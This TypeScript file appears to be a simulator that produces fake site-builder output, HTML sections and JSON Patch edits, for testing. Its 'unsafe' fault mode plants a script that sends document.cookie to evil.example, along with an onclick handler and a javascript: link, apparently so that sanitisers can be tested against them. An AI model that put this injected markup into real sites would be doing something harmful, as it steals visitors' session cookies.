import { SECTION_TYPES } from '../../recipes/site/schema.ts';
import { pick, seededRandom } from '../seeded.ts';
import { between, capitalize, clip, escapeHtml, keywords, sentences, words } from './text.ts';

type SectionType = (typeof SECTION_TYPES)[number];

interface SimulatedSite {
  title: string;
  description: string;
  theme: { primaryColor: string; font: string };
  sections: { id: string; type: SectionType; html: string }[];
}

const FONTS = ['Inter', 'Poppins', 'Lora', 'DM Sans', 'Source Sans 3', 'Merriweather'];
const DEFAULT_SECTIONS: readonly SectionType[] = ['hero', 'features', 'about', 'cta', 'footer'];

/** Markup the unsafe-html fault plants: a script, an inline handler and a javascript: URL. */
const UNSAFE_SNIPPET =
  '<script>fetch("https://evil.example/steal?c="+document.cookie)</script>' +
  '<button class="rounded bg-red-600 px-4 py-2 text-white" onclick="alert(document.domain)">Claim offer</button>' +
  '<a class="underline" href="javascript:alert(1)">Details</a>';

/**
 * A site for a generate-site prompt, valid against `siteSchema` and derived from the brief: its
 * words make the title, hero and features; "Business name:" and "Sections, in this order:" lines
 * are honoured. `unsafe` plants script, onclick= and javascript: URLs (still schema-valid).
 */
export function simulatedSite(userText: string, options: { unsafe?: boolean } = {}): SimulatedSite {
  const brief = clip(between(userText, 'brief') ?? userText, 4_000);
  const random = seededRandom(`site:${userText}`);
  const terms = keywords(brief, 8);
  const businessName = userText.match(/^Business name:\s*(.+)$/m)?.[1]?.trim();
  const title = clip(
    businessName ||
      (terms.length > 0 ? terms.slice(0, 3).map(capitalize).join(' ') : 'Your New Website'),
    120,
  );
  const firstSentence = sentences(brief)[0] ?? title;
  const description = clip(firstSentence, 300);
  const primaryColor = `#${Math.floor(random() * 0xffffff)
    .toString(16)
    .padStart(6, '0')}`;
  const types = requestedSections(userText);
  const used = new Map<string, number>();
  const sections = types.map((type) => {
    const count = (used.get(type) ?? 0) + 1;
    used.set(type, count);
    const id = count === 1 ? type : `${type}-${count}`;
    return { id, type, html: sectionHtml(type, { title, description, terms, brief }) };
  });
  if (options.unsafe && sections[0]) {
    sections[0].html = sections[0].html.replace('</section>', `${UNSAFE_SNIPPET}</section>`);
  }
  return { title, description, theme: { primaryColor, font: pick(random, FONTS) }, sections };
}

function requestedSections(userText: string): SectionType[] {
  const line = userText.match(/^Sections(?:, in this order)?:\s*(.+)$/m)?.[1];
  if (!line) return [...DEFAULT_SECTIONS];
  const known = new Set<string>(SECTION_TYPES);
  const types = line
    .split(',')
    .map((name) => name.trim().toLowerCase())
    .filter(Boolean)
    .map((name) => (known.has(name) ? (name as SectionType) : 'custom'));
  return types.length > 0 ? types.slice(0, 30) : [...DEFAULT_SECTIONS];
}

interface Copy {
  title: string;
  description: string;
  terms: string[];
  brief: string;
}

function sectionHtml(type: SectionType, copy: Copy): string {
  const title = escapeHtml(copy.title);
  const description = escapeHtml(copy.description);
  const term = (index: number) =>
    escapeHtml(capitalize(copy.terms[index % Math.max(1, copy.terms.length)] ?? 'Quality'));
  switch (type) {
    case 'hero':
      return `<section class="bg-gradient-to-br from-slate-900 to-slate-700 px-6 py-24 text-center text-white"><h1 class="text-4xl font-bold tracking-tight sm:text-6xl">${title}</h1><p class="mx-auto mt-6 max-w-2xl text-lg text-slate-200">${description}</p><a href="#contact" class="mt-10 inline-block rounded-md bg-white px-6 py-3 font-semibold text-slate-900 hover:bg-slate-100">Get started</a></section>`;
    case 'features':
    case 'services':
      return `<section class="px-6 py-20"><h2 class="text-center text-3xl font-bold text-slate-900">${type === 'features' ? 'Why choose us' : 'What we offer'}</h2><div class="mx-auto mt-12 grid max-w-5xl gap-8 sm:grid-cols-3">${[
        0, 1, 2,
      ]
        .map(
          (index) =>
            `<div class="rounded-xl border border-slate-200 p-6 shadow-sm"><h3 class="text-lg font-semibold text-slate-900">${term(index)}</h3><p class="mt-2 text-slate-600">${term(index)} done well, for ${title}.</p></div>`,
        )
        .join('')}</div></section>`;
    case 'about':
      return `<section class="bg-slate-50 px-6 py-20"><div class="mx-auto max-w-3xl"><h2 class="text-3xl font-bold text-slate-900">About ${title}</h2><p class="mt-4 text-lg leading-8 text-slate-600">${escapeHtml(clip(copy.brief, 600))}</p></div></section>`;
    case 'pricing':
      return `<section class="px-6 py-20"><h2 class="text-center text-3xl font-bold">Pricing</h2><div class="mx-auto mt-10 grid max-w-4xl gap-6 sm:grid-cols-2"><div class="rounded-xl border p-8"><h3 class="text-xl font-semibold">Starter</h3><p class="mt-4 text-4xl font-bold">$19</p></div><div class="rounded-xl border-2 border-slate-900 p-8"><h3 class="text-xl font-semibold">Pro</h3><p class="mt-4 text-4xl font-bold">$49</p></div></div></section>`;
    case 'testimonials':
      return `<section class="bg-slate-50 px-6 py-20"><figure class="mx-auto max-w-2xl text-center"><blockquote class="text-xl italic text-slate-800">“${term(0)} and ${term(1)}: exactly what we needed.”</blockquote><figcaption class="mt-4 text-slate-500">A happy customer</figcaption></figure></section>`;
    case 'gallery':
      return `<section class="px-6 py-20"><h2 class="text-3xl font-bold">Gallery</h2><div class="mt-8 grid grid-cols-2 gap-4 sm:grid-cols-4">${[
        0, 1, 2, 3,
      ]
        .map(
          (index) =>
            `<div class="aspect-square rounded-lg bg-slate-200" aria-label="${term(index)}"></div>`,
        )
        .join('')}</div></section>`;
    case 'faq':
      return `<section class="px-6 py-20"><h2 class="text-3xl font-bold">Questions</h2><dl class="mt-8 space-y-6"><div><dt class="font-semibold">What is ${term(0)}?</dt><dd class="mt-2 text-slate-600">${description}</dd></div></dl></section>`;
    case 'contact':
      return `<section id="contact" class="px-6 py-20"><h2 class="text-3xl font-bold">Contact ${title}</h2><form class="mt-8 grid max-w-md gap-4"><input class="rounded border px-3 py-2" type="email" placeholder="you@example.com"><button class="rounded bg-slate-900 px-4 py-2 text-white" type="submit">Send</button></form></section>`;
    case 'cta':
      return `<section class="bg-slate-900 px-6 py-16 text-center text-white"><h2 class="text-3xl font-bold">Ready for ${term(0).toLowerCase()}?</h2><a href="#contact" class="mt-6 inline-block rounded-md bg-white px-6 py-3 font-semibold text-slate-900">Talk to ${title}</a></section>`;
    case 'footer':
      return `<footer class="border-t border-slate-200 px-6 py-10 text-center text-sm text-slate-500">© ${title}. All rights reserved.</footer>`;
    case 'custom':
      return `<section class="px-6 py-20"><h2 class="text-2xl font-bold">${term(0)}</h2><p class="mt-4 text-slate-600">${escapeHtml(words(copy.brief).slice(0, 40).join(' '))}</p></section>`;
  }
}

/**
 * Patch mode: an RFC 6902 JSON Patch against the site in the prompt's `<site>` block, derived
 * from the `<request>` words: a new description, and the first section's HTML rewritten.
 */
export function simulatedSitePatch(
  userText: string,
  options: { unsafe?: boolean } = {},
): { operations: unknown[] } {
  const request = clip(between(userText, 'request') ?? userText, 1_000);
  const terms = keywords(request, 4);
  const operations: unknown[] = [
    { op: 'add', path: '/description', value: clip(`Updated: ${request}`, 900) },
  ];
  let site: { title?: unknown; sections?: unknown } | undefined;
  try {
    site = JSON.parse(between(userText, 'site') ?? 'null');
  } catch {
    site = undefined;
  }
  const first = Array.isArray(site?.sections) ? site.sections[0] : undefined;
  if (first !== undefined) {
    const heading = escapeHtml(terms.map(capitalize).join(' ') || String(site?.title ?? 'Updated'));
    const html = `<section class="px-6 py-24 text-center"><h1 class="text-4xl font-bold">${heading}</h1><p class="mt-6 text-lg text-slate-600">${escapeHtml(clip(request, 300))}</p>${options.unsafe ? UNSAFE_SNIPPET : ''}</section>`;
    operations.push({ op: 'replace', path: '/sections/0/html', value: html });
  }
  return { operations };
}
